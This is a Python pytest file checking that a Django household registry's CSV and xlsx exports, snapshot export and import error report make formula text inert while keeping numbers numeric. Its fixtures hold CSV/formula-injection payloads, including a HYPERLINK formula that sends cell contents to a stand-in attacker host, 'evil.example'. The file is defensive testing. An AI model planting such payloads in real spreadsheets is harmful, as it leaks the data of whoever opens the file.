"""Exported cells never execute (issue 12 §5): text that starts a formula comes out inert in
the registry CSV and xlsx, the snapshot xlsx and the import error report; numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from fupin.accounts.selectors import load_actor
from fupin.registry import services
from fupin.registry.io import export
from fupin.registry.io.report import write_error_report
from fupin.registry.models import Household, Income, Member
from fupin.registry.selectors import HouseholdFilters
from fupin.testing import client_for

from .factories import family, household_data

pytestmark = pytest.mark.django_db

HEAD = '=HYPERLINK("http://evil.example/?"&B2,"点我")'
BANK = "+1"
HELPER = "@SUM(A1)"
SPOUSE = "-2+3"
SON = "\tx"
ADDRESS = "\rx"
PAYLOADS = {HEAD, BANK, HELPER, SPOUSE, SON}


@pytest.fixture
def office(county_personas: Any) -> Any:
    return load_actor(county_personas.in_region)


@pytest.fixture
def hostile(office: Any, village: Any) -> Household:
    """A household whose free text was filled with formulas (as any import could bring)."""
    household = services.household_create(
        actor=office,
        village_code=village.code,
        data=household_data("5109810001"),
        members=family(village.code[:6]),
    ).household
    services.income_save(
        actor=office, household_id=household.pk, year=2020, version=0, amounts={"wage": 9000}
    )
    Household.objects.filter(pk=household.pk).update(
        head_name=HEAD, bank_name=BANK, helper_name=HELPER
    )
    Income.objects.filter(household=household).update(property_income=-5)
    members = {m.relation: m for m in household.members.all()}
    Member.objects.filter(pk=members["head"].pk).update(name=HEAD)
    Member.objects.filter(pk=members["spouse"].pk).update(name=SPOUSE)
    Member.objects.filter(pk=members["son"].pk).update(name=SON)
    return household


def assert_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name


def test_registry_csv_quotes_formula_text_and_keeps_negative_numbers(
    county_personas: Any, hostile: Household
) -> None:
    response: Any = client_for(county_personas.in_region).get(
        reverse("registry:export"), {"format": "csv"}
    )
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content, newline="")))[:-1]  # less the trailer
    assert rows[0]["户主姓名"] == "'" + HEAD and rows[0]["开户银行"] == "'" + BANK
    assert rows[0]["帮扶责任人"] == "'" + HELPER
    assert {r["姓名"] for r in rows} == {"'" + HEAD, "'" + SPOUSE, "'" + SON}
    assert rows[0]["财产性收入"] == "-5.00"  # a number, not quoted
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-5.00", value


def test_registry_xlsx_writes_formula_text_as_strings(
    office: Any, hostile: Household, tmp_path: Path
) -> None:
    path = tmp_path / "export.xlsx"
    export.write_xlsx(office, HouseholdFilters(), path)
    assert_no_formula(path)
    book = CalamineWorkbook.from_path(str(path))
    households = book.get_sheet_by_name("户信息").to_python()
    header = households[0]
    row = households[1]
    assert row[header.index("户主姓名")] == HEAD and row[header.index("开户银行")] == BANK
    assert row[header.index("帮扶责任人")] == HELPER
    assert row[header.index("财产性收入")] == -5  # a number cell
    names = {r[1] for r in book.get_sheet_by_name("成员信息").to_python()[1:]}
    assert names == {HEAD, SPOUSE, SON}


def test_snapshot_xlsx_writes_formula_text_as_strings(
    county_personas: Any, office: Any, hostile: Household, county: Any, tmp_path: Path
) -> None:
    from fupin.registry.snapshots.services import snapshot_year

    assert snapshot_year(year=2020, region_code=county.code, actor=office) == 1
    response: Any = client_for(county_personas.in_region).get(
        reverse("registry:snapshot_export", args=[2020])
    )
    assert response.status_code == 200
    path = tmp_path / "snap.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    assert_no_formula(path)
    book = CalamineWorkbook.from_path(str(path))
    assert book.get_sheet_by_name("户信息").to_python()[1][2] == HEAD
    names = {r[1] for r in book.get_sheet_by_name("成员信息").to_python()[1:]}
    assert names == {HEAD, SPOUSE, SON}


def test_import_error_report_writes_formula_text_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "errors.xlsx"
    rows = [("户信息", 2, "户主姓名", value, "C01", "说明") for value in [*PAYLOADS, ADDRESS]]
    write_error_report(str(path), rows)
    assert_no_formula(path)
    values = [r[3] for r in CalamineWorkbook.from_path(str(path)).get_sheet_by_name("错误报告")
              .to_python()[1:]]  # fmt: skip
    assert values == [*PAYLOADS, ADDRESS]


def test_a_quoted_csv_cell_imports_back_unchanged() -> None:
    from fupin.registry.io.readers import CsvChunk, csv_chunk_rows

    chunk = CsvChunk(1, "'=1+2,'-3,plain\r\n")
    assert [row for _, row in csv_chunk_rows(chunk)] == [["=1+2", "-3", "plain"]]
